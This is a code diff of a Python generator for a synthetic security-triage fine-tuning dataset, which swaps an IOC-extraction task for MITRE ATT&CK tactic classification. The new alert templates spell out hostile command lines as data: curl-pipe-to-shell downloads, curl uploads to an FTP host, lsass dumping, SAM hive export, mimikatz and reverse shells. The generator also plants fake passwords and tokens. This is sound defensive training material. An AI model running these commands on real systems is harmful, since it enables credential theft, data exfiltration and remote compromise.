@@ -1,27 +1,39 @@
 """A security-domain instruction set, generated deterministically in code (no model, no download).
 
-Three tasks, each with one fixed system prompt and short, exactly checkable answers, so that
-accuracy (exact match) means something for a small model fine-tuned for a few minutes:
+Three triage tasks, each with one fixed system prompt and a one-label answer that the input
+determines, so that accuracy (exact match) means something and chance is known:
 
-    auth_triage   an sshd or web-login log snippet; answer "<ip>, <failures>" for the address
-                  with the most failed logins. The attacker's lines are scattered at random
-                  among successful logins, failures from other addresses and connection noise,
-                  and it has strictly more failures than any other address, so the answer is
-                  unique and must be found (and counted) in the log.
-    phishing      a short e-mail (From, Subject, body, link, signature); answer "phishing" or
+    auth_triage   an sshd or web-login log snippet -> "brute-force" (>= 4 failed logins from one
+                  address, against one account or a list), "scan" (>= 4 pre-auth probes or
+                  scanner requests from one address, no login attempt) or "benign" (at most 2
+                  failures, from different addresses, among ordinary logins). The attack lines
+                  are scattered among successful logins and connection noise. Chance 1/3.
+    phishing      a short e-mail (From, Subject, body, link, signature) -> "phishing" or
                   "legitimate". The ground truth is structural, as a mail analyst would judge
                   it: a message is legitimate iff its sender and every link are on the official
                   domain of the organisation it comes from; phishing uses lookalike or unrelated
                   domains. Wording is *not* a giveaway: legitimate security notices also say
-                  "verify" and "immediately", some phishing is calm. Classes are exactly balanced.
-    ioc_extract   an EDR/proxy/mail/IDS alert; answer "ips: ...; domains: ...; hashes: ..." with
-                  each list in order of first appearance, "none" when empty. Addresses inside
-                  e-mail addresses are people, not indicators, and do not count.
+                  "verify" and "immediately", some phishing is calm. Chance 1/2.
+    alert_tactic  an EDR/Sysmon/IDS/proxy/SIEM alert -> the MITRE ATT&CK tactic of the activity
+                  (execution, persistence, credential-access, discovery, command-and-control,
+                  exfiltration), five behaviours each; IP addresses, domains and hashes appear
+                  in every class. Chance 1/6.
+
+Why labels and not extracted values ("which address, how many failures", "list the IOCs"): a
+model of a few million parameters pretrained for minutes has not formed the attention circuits
+that copy an arbitrary string out of its input. Measured on the earlier extraction version of
+this set: the fixed prefix of an address was predicted at 0.01 nats, its random last octet at
+5.5 nats (uniform over ~250 values) and the count at ln 4, i.e. not read at all, and full
+fine-tuning did no better. For the same reason auth triage does not ask "brute force against
+one account or password spray across many": telling a repeated account from distinct ones
+needs the same token-matching circuit, and a measured run predicted "password-spray" for none
+of 36 sprays. Deciding *what* a log or alert shows is the analyst's first step and is within
+reach; every label still has to be read from the input.
 
 Records are chat messages (system, user, assistant) as JSON Lines with a `task` field and a
 `meta` field (planted PII types, planted duplicates) that `yunque data prepare` ignores.
 Part of the records carry realistic synthetic PII and secrets (see `yunque.demo.synthetic`)
-in places that do not change the answer: a reporter line, a signature, the user field of a
+in places that do not change the answer: a reporter line, a signature, a leaked password in a
 web log, a leaked config line, a bearer token. Some records are planted exact and near
 duplicates (a copy with a short remark appended) so that deduplication has work to do.
 The same seed gives the same bytes.
@@ -29,10 +41,10 @@ The same seed gives the same bytes.
 
 from __future__ import annotations
 
+import base64
 import hashlib
 import json
 import random
-import re
 from dataclasses import asdict, dataclass, field
 from datetime import datetime, timedelta
 from pathlib import Path
@@ -40,11 +52,11 @@ from pathlib import Path
 from yunque.demo import synthetic as syn
 from yunque.errors import ConfigError
 
-TASKS = ("auth_triage", "phishing", "ioc_extract")
+TASKS = ("auth_triage", "phishing", "alert_tactic")
 SYSTEM = {
-    "auth_triage": "You are a SOC analyst. Find the IP address with the most failed logins. Answer: IP, count.",
+    "auth_triage": "You are a SOC analyst. Triage the auth log. Answer: brute-force, scan or benign.",
     "phishing": "You are a mail security filter. Classify the message. Answer: phishing or legitimate.",
-    "ioc_extract": "You extract indicators from alerts. Answer: ips: ...; domains: ...; hashes: ... (none if empty).",
+    "alert_tactic": "You triage security alerts. Answer with the MITRE ATT&CK tactic of the activity.",
 }
 QUICK_RECORDS = 600
 DEFAULT_RECORDS = 3000
@@ -57,7 +69,7 @@ class DomainInfo:
     sha256: str
     records: int
     per_task: dict[str, int] = field(default_factory=dict)
-    labels: dict[str, int] = field(default_factory=dict)  # phishing / legitimate
+    labels: dict[str, int] = field(default_factory=dict)  # "task:label" -> records
     with_pii: int = 0
     pii_types: dict[str, int] = field(default_factory=dict)
     exact_duplicates: int = 0
@@ -84,68 +96,82 @@ def answers_match(prediction: str, reference: str) -> bool:
 
 # --- auth_triage -------------------------------------------------------------------------
 
-_SSH_USERS = ("root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "deploy", "user", "pi")
+VERDICTS = ("brute-force", "scan", "benign")
+_ACCOUNTS = ("root", "admin", "ubuntu", "deploy", "git", "postgres", "oracle", "test", "guest", "backup",
+             "ftp", "www-data", "jenkins", "support", "user1", "svc_sql")
+_HOST_USERS = ("root", "deploy", "git", "ubuntu", "backup")  # exist on the host: no "invalid user"
+_SSH_PROBES = ("Did not receive identification string from {ip}", "Connection reset by {ip} [preauth]",
+               "Unable to negotiate with {ip}: no matching key exchange method found",
+               "banner exchange: Connection from {ip}: invalid format")
+_WEB_PROBES = ("/.env", "/wp-login.php", "/phpmyadmin/", "/.git/config", "/admin/config.php", "/actuator/env",
+               "/cgi-bin/luci", "/server-status", "/backup.zip")
 
 
-def _auth_triage(rng: random.Random, pii: bool) -> tuple[str, str, list[str]]:
-    web = rng.random() < 0.5
+def _auth_triage(rng: random.Random, pii: bool, verdict: str) -> tuple[str, str, list[str]]:
+    """A log whose verdict follows from what its lines say and how many come from one address:
+    >= 4 failed logins from one address (brute force, one account or a list of them), >= 4
+    pre-auth probes or scanner requests from one address and no login attempt (scan), or at
+    most 2 failures, from different addresses, among ordinary logins (benign)."""
+    web = rng.random() < 0.4
     host = rng.choice(("bastion", "web01", "vpn-gw", "db02", "jump1", "app03"))
-    attacker = syn.public_ip(rng)
-    count = rng.randint(3, 6)
-    used = {attacker}
+    staff = [syn.person(rng)[1] for _ in range(3)]
+    staff = staff if web else [s.split(".")[0] for s in staff]
+    used: set[str] = set()
 
     def fresh_ip() -> str:
-        while (ip := syn.public_ip(rng) if rng.random() < 0.6 else syn.private_ip(rng)) in used:
+        while (ip := syn.public_ip(rng) if rng.random() < 0.5 else syn.private_ip(rng)) in used:
             pass
         used.add(ip)
         return ip
 
-    planted: list[str] = []
-    people = [syn.person(rng) for _ in range(3)]
-    logins = [syn.email(rng, p[1]) if web and pii else (p[1] if web else p[1].split(".")[0]) for p in people]
-    if web and pii:
-        planted.append("EMAIL")
-    events = [("fail", attacker, rng.choice(_SSH_USERS if not web else logins + ["admin"])) for _ in range(count)]
-    # 2-4 other lines keep the snippet short (<= 10 lines, ~200 tokens) while making the attacker
-    # something to find: mistyped passwords from other addresses (always fewer than the attacker's),
-    # successful logins (sometimes from an address that also failed) and pre-auth connection noise.
-    other_fails: dict[str, int] = {}
-    for _ in range(rng.randint(2, 4)):
-        kind = rng.choice(("fail", "ok", "ok", "noise"))
-        if kind == "fail":
-            ip = rng.choice(sorted(other_fails)) if other_fails and rng.random() < 0.5 else fresh_ip()
-            if other_fails.get(ip, 0) + 1 >= count:
-                ip = fresh_ip()
-            other_fails[ip] = other_fails.get(ip, 0) + 1
-            events.append(("fail", ip, rng.choice(logins)))
-        elif kind == "ok":
-            events.append(("ok", fresh_ip() if rng.random() < 0.7 else rng.choice(sorted(used)), rng.choice(logins)))
+    events: list[tuple[str, str, str]] = []
+    if verdict == "benign":
+        for _ in range(rng.randint(0, 2)):  # mistyped passwords, never twice from one address
+            events.append(("fail", fresh_ip(), rng.choice(staff)))
+        quiet = rng.randint(3, 6)
+    else:
+        attacker, n = fresh_ip(), rng.randint(4, 7)
+        if verdict == "brute-force":  # one account guessed again and again, or a list walked
+            accounts = [rng.choice(_ACCOUNTS)] * n if rng.random() < 0.5 else rng.sample(_ACCOUNTS, n)
+            events += [("fail", attacker, a) for a in accounts]
         else:
-            events.append(("noise", attacker if rng.random() < 0.5 else fresh_ip(), ""))
+            events += [("probe", attacker, "") for _ in range(n)]
+        quiet = rng.randint(1, 3)
+    ok_ips: list[str] = []  # staff log in again from where they did; never from a failing address
+    noise = 0
+    for _ in range(quiet):
+        kind = "noise" if noise < 2 and rng.random() < 0.3 else "ok"  # at most 2: scans are >= 4
+        noise += kind == "noise"
+        ip = rng.choice(ok_ips) if kind == "ok" and ok_ips and rng.random() < 0.3 else fresh_ip()
+        ok_ips += [ip] if kind == "ok" else []
+        events.append((kind, ip, rng.choice(staff)))
     rng.shuffle(events)
     t = start = datetime(2024, 1, 1) + timedelta(days=rng.randrange(365), seconds=rng.randrange(86400))
     leak = web and pii and rng.random() < 0.5
+    planted: list[str] = []
     lines = []
-    # Lines are condensed (time of day, no pid / port) to keep a snippet near 200 tokens: with
-    # digits split in threes, a full syslog prefix alone costs ~15 tokens per line.
+    # Condensed lines (time of day, no pid / port) keep a snippet near 200 tokens.
     for kind, ip, user in events:
-        t += timedelta(seconds=rng.randint(1, 40))
+        t += timedelta(seconds=rng.randint(1, 40) if verdict == "benign" else rng.randint(1, 6))
         ts = f"{t:%H:%M:%S}"
         if web:
             if kind == "noise":
                 lines.append(f"{ts} GET /login 200 ip={ip}")
+            elif kind == "probe":
+                lines.append(f"{ts} GET {rng.choice(_WEB_PROBES)} 404 ip={ip}")
             else:
                 status = "401" if kind == "fail" else "302"
                 extra = f" password={syn.password(rng)}" if leak and kind == "fail" and rng.random() < 0.4 else ""
                 lines.append(f"{ts} POST /login {status} user={user}{extra} ip={ip}")
+        elif kind == "fail":
+            invalid = "" if user in _HOST_USERS or user in staff else "invalid user "
+            lines.append(f"{ts} sshd: Failed password for {invalid}{user} from {ip}")
+        elif kind == "ok":
+            lines.append(f"{ts} sshd: Accepted {rng.choice(('publickey', 'password'))} for {user} from {ip}")
+        elif kind == "probe":
+            lines.append(f"{ts} sshd: " + rng.choice(_SSH_PROBES).format(ip=ip))
         else:
-            if kind == "fail":
-                invalid = "invalid user " if user in _SSH_USERS and user not in ("root", "deploy", "git") else ""
-                lines.append(f"{ts} sshd: Failed password for {invalid}{user} from {ip}")
-            elif kind == "ok":
-                lines.append(f"{ts} sshd: Accepted {rng.choice(('publickey', 'password'))} for {user} from {ip}")
-            else:
-                lines.append(f"{ts} sshd: Connection closed by {ip} [preauth]")
+            lines.append(f"{ts} sshd: Connection closed by {ip} [preauth]")
     if leak and any("password=" in line for line in lines):
         planted.append("SECRET_ASSIGNMENT")
     header = ""
@@ -153,11 +179,10 @@ def _auth_triage(rng: random.Random, pii: bool) -> tuple[str, str, list[str]]:
         name, login = syn.person(rng)
         header = f"Ticket from {name} <{syn.email(rng, login)}>, {syn.phone(rng)}:\n"
         planted += ["EMAIL", "PHONE"]
-    question = rng.choice(("Which IP is brute-forcing, and how many failed logins?",
-                           "Who is brute-forcing this host, and how many failures?",
-                           "Find the brute-force source and its failure count."))
+    question = rng.choice(("Brute force, scan or benign?", "What is happening in this log?",
+                           "Triage this log."))
     user_text = f"{header}Auth log from {host}, {start:%Y-%m-%d}:\n" + "\n".join(lines) + f"\n\n{question}"
-    return user_text, f"{attacker}, {count}", sorted(set(planted))
+    return user_text, verdict, sorted(set(planted))
 
 
 # --- phishing ----------------------------------------------------------------------------
@@ -234,37 +259,85 @@ def _phishing(rng: random.Random, pii: bool, label: str) -> tuple[str, str, list
     return f"{text}\n\n{question}", label, planted
 
 
-# --- ioc_extract -------------------------------------------------------------------------
+# --- alert_tactic ------------------------------------------------------------------------
 
-def _ioc_extract(rng: random.Random, pii: bool) -> tuple[str, str, list[str]]:
-    ips = [syn.public_ip(rng) for _ in range(rng.randint(1, 2))]
-    domains = [syn.bad_domain(rng) for _ in range(rng.randint(0, 2))]
-    # Mostly one hash, MD5 more often than SHA-256: a SHA-256 costs ~50 tokens to read and to copy.
-    n_hashes = rng.choices((0, 1, 2), weights=(0.35, 0.5, 0.15))[0]
-    hashes = [syn.md5(rng) if rng.random() < 0.6 else syn.sha256(rng) for _ in range(n_hashes)]
+# What an alert's activity is, as MITRE ATT&CK names the tactic. Each has several behaviours so
+# that no single word decides it; indicators (addresses, domains, hashes) appear in every class.
+_BEHAVIOURS = {
+    "execution": (
+        "{parent} spawned powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {b64}",
+        "mshta.exe ran a remote HTA from http://{domain}/{word}.hta",
+        "wscript.exe executed C:\\Users\\{login}\\Downloads\\{word}.js from a mail attachment",
+        "WINWORD.EXE started cmd.exe /c %TEMP%\\{word}.bat",
+        "the web server user ran bash -c 'curl -s http://{domain}/{word}.sh | sh'",
+    ),
+    "persistence": (
+        "schtasks /create /sc onlogon /tn {Word}Update /tr C:\\ProgramData\\{word}.exe",
+        "Run key HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\{Word} set to %APPDATA%\\{word}.exe",
+        "new service {Word}Svc installed with binary C:\\Windows\\Temp\\{word}.exe",
+        "crontab entry added: @reboot /tmp/.{word}/{word}",
+        "SSH public key appended to /root/.ssh/authorized_keys",
+    ),
+    "credential-access": (
+        "procdump.exe -ma lsass.exe C:\\Windows\\Temp\\{word}.dmp",
+        "mimikatz sekurlsa::logonpasswords run by {parent}",
+        "reg.exe save HKLM\\SAM C:\\Users\\Public\\{word}.hiv",
+        "rundll32.exe comsvcs.dll, MiniDump {pid} C:\\Temp\\{word}.dmp full",
+        "{n} Kerberos TGS requests with RC4 for service accounts in {n2} s",
+    ),
+    "discovery": (
+        "net group \"Domain Admins\" /domain",
+        "nltest /domain_trusts /all_trusts",
+        "AdFind.exe -f objectcategory=computer > {word}.txt",
+        "whoami /all; ipconfig /all; arp -a",
+        "{n} hosts of 10.{a}.{b}.0/24 probed on ports 445 and 3389",
+    ),
+    "command-and-control": (
+        "beacon to {domain} every {n} s with jitter",
+        "DNS TXT queries to long random subdomains of {domain}",
+        "TLS to {ip}:{port} with a self-signed certificate every {n} s",
+        "HTTPS to {domain} matching a Cobalt Strike JA3 fingerprint",
+        "reverse shell from {parent} to {ip}:4444",
+    ),
+    "exfiltration": (
+        "rclone copy of \\\\fileserver\\{word} to mega: {n} GB",
+        "{n} MB uploaded to {ip} over HTTPS at 03:{n2:02d}",
+        "7z archive of C:\\Users\\{login}\\Documents posted to {domain}",
+        "curl -T {word}.zip ftp://{ip}/",
+        "{n} GB copied to a USB mass-storage device",
+    ),
+}
+TACTICS = tuple(_BEHAVIOURS)
+DESCRIPTION = {  # (input, answer) for the report
+    "auth_triage": ("an sshd or web-login log", "brute-force (>= 4 failed logins from one address), scan (>= 4 "
+                    "pre-auth probes from one address) or benign"),
+    "phishing": ("an e-mail", "phishing or legitimate: legitimate iff the sender and every link are on the "
+                 "official domain of the organisation named"),
+    "alert_tactic": ("an EDR / IDS / proxy alert", "its MITRE ATT&CK tactic: " + ", ".join(TACTICS)),
+}
+_WORDS = ("update", "helper", "sync", "agent", "cache", "report", "office", "svc", "data", "tools", "backup")
+_PARENTS = ("explorer.exe", "cmd.exe", "svchost.exe", "python3", "java", "outlook.exe", "w3wp.exe")
+
+
+def _alert_tactic(rng: random.Random, pii: bool, tactic: str) -> tuple[str, str, list[str]]:
+    word = rng.choice(_WORDS)
+    slots = {"word": word, "Word": word.capitalize(), "parent": rng.choice(_PARENTS), "login": syn.person(rng)[1],
+             "domain": syn.bad_domain(rng), "ip": syn.public_ip(rng), "port": rng.choice((443, 8443, 8080, 53)),
+             "pid": rng.randint(400, 9000), "n": rng.randint(2, 90), "n2": rng.randint(1, 59),
+             "a": rng.randrange(256), "b": rng.randrange(256),
+             "b64": base64.b64encode(rng.randbytes(rng.randint(9, 18))).decode()}
+    what = rng.choice(_BEHAVIOURS[tactic]).format(**slots)
     host = f"{rng.choice(('WS', 'LT', 'SRV'))}-{rng.randint(100, 9999):04d}"
-    local = syn.private_ip(rng)
-    proc = rng.choice(("powershell.exe", "rundll32.exe", "mshta.exe", "wscript.exe", "curl", "python3"))
-    parts = []
-    for ip in ips:
-        parts.append(rng.choice((f"connection to {ip}:{rng.choice((443, 8080, 4444, 53))}",
-                                 f"outbound traffic to {ip}", f"callback to {ip}")))
-    for d in domains:
-        parts.append(rng.choice((f"DNS query for {d}", f"download from http://{d}/{rng.choice(('a', 'x', 'dl'))}/{rng.randint(1, 99)}",
-                                 f"beacon to {d}")))
-    for h in hashes:
-        kind = "MD5" if len(h) == 32 else "SHA-256"
-        parts.append(rng.choice((f"dropped file {kind} {h}", f"payload {kind} {h}", f"{kind} {h} written to disk")))
-    rng.shuffle(parts)
-    source = rng.choice(("EDR", "Proxy", "IDS", "Mail gateway"))
-    alert = f"{source} alert on {host} ({local}): {proc} " + "; ".join(parts) + "."
-    # The answer lists indicators as they appear in the text, so read the order back from it.
-    found = [("ips", v, _position(alert, v)) for v in ips + [local]]
-    found += [("domains", v, _position(alert, v)) for v in domains] + [("hashes", v, _position(alert, v)) for v in hashes]
-    order = sorted(found, key=lambda f: f[2])
-    answer = "; ".join(
-        f"{kind}: " + (", ".join(dict.fromkeys(v for k, v, _ in order if k == kind)) or "none")
-        for kind in ("ips", "domains", "hashes"))
+    source = rng.choice(("EDR", "Sysmon", "IDS", "Proxy", "SIEM"))
+    extra = []  # indicators and context in every class, so that none of them is the cue
+    if rng.random() < 0.5:
+        extra.append(f"image {'MD5' if rng.random() < 0.6 else 'SHA-256'} "
+                     f"{syn.md5(rng) if rng.random() < 0.6 else syn.sha256(rng)}")
+    if rng.random() < 0.4:
+        extra.append(f"peer {syn.public_ip(rng) if rng.random() < 0.5 else syn.bad_domain(rng)}")
+    extra.append(f"severity {rng.choice(('low', 'medium', 'high'))}")
+    rng.shuffle(extra)
+    alert = f"{source} alert on {host} ({syn.private_ip(rng)}): {what}; " + "; ".join(extra) + "."
     planted: list[str] = []
     if pii:
         name, login = syn.person(rng)
@@ -279,13 +352,8 @@ def _ioc_extract(rng: random.Random, pii: bool) -> tuple[str, str, list[str]]:
         else:
             alert += f"\nRequest header: Authorization: Bearer {syn.jwt(rng, login)}"
             planted.append("JWT")
-    question = rng.choice(("Extract the indicators.", "List the IOCs.", "Which indicators are in this alert?"))
-    return f"Alert:\n{alert}\n\n{question}", answer, planted
-
-
-def _position(text: str, value: str) -> int:
-    """First whole-token occurrence: 198.51.100.2 must not be found inside 198.51.100.23."""
-    return re.search(rf"(?<![\w.-]){re.escape(value)}(?![\w-]|\.\w)", text).start()
+    question = rng.choice(("Which ATT&CK tactic is this?", "Classify this alert.", "What is the attacker doing?"))
+    return f"Alert:\n{alert}\n\n{question}", tactic, planted
 
 
 # --- the data set ------------------------------------------------------------------------
@@ -303,16 +371,16 @@ def generate(n: int = DEFAULT_RECORDS, seed: int = 0, pii_fraction: float = 0.3,
     n_dup, n_near = round(n * duplicate_fraction), round(n * near_duplicate_fraction)
     base = n - n_dup - n_near
     tasks = [TASKS[i % len(TASKS)] for i in range(base)]
-    labels = ["phishing", "legitimate"] * (base // 2 + 1)
+    # Labels cycle within each task, so classes are balanced to within one record.
+    cycle = {"auth_triage": VERDICTS, "phishing": ("phishing", "legitimate"), "alert_tactic": TACTICS}
+    seen = dict.fromkeys(TASKS, 0)
     records = []
-    for i, task in enumerate(tasks):
+    for task in tasks:
         pii = rng.random() < pii_fraction
-        if task == "auth_triage":
-            user, answer, planted = _auth_triage(rng, pii)
-        elif task == "phishing":
-            user, answer, planted = _phishing(rng, pii, labels[i // len(TASKS)])
-        else:
-            user, answer, planted = _ioc_extract(rng, pii)
+        label = cycle[task][seen[task] % len(cycle[task])]
+        seen[task] += 1
+        make = {"auth_triage": _auth_triage, "phishing": _phishing, "alert_tactic": _alert_tactic}[task]
+        user, answer, planted = make(rng, pii, label)
         records.append(_record(task, user, answer, {"pii": planted}))
     # Distinct sources: two near copies of one record with the same remark would be an exact pair.
     for src in rng.sample(range(base), n_dup):
@@ -342,9 +410,8 @@ def write_domain(path: str | Path, n: int = DEFAULT_RECORDS, seed: int = 0, **kw
     info = DomainInfo(path=str(out), sha256=hashlib.sha256(data).hexdigest(), records=len(records))
     for r in records:
         info.per_task[r["task"]] = info.per_task.get(r["task"], 0) + 1
-        if r["task"] == "phishing":
-            label = r["messages"][2]["content"]
-            info.labels[label] = info.labels.get(label, 0) + 1
+        label = f'{r["task"]}:{r["messages"][2]["content"]}'
+        info.labels[label] = info.labels.get(label, 0) + 1
         if r["meta"]["pii"]:
             info.with_pii += 1
             for t in r["meta"]["pii"]:
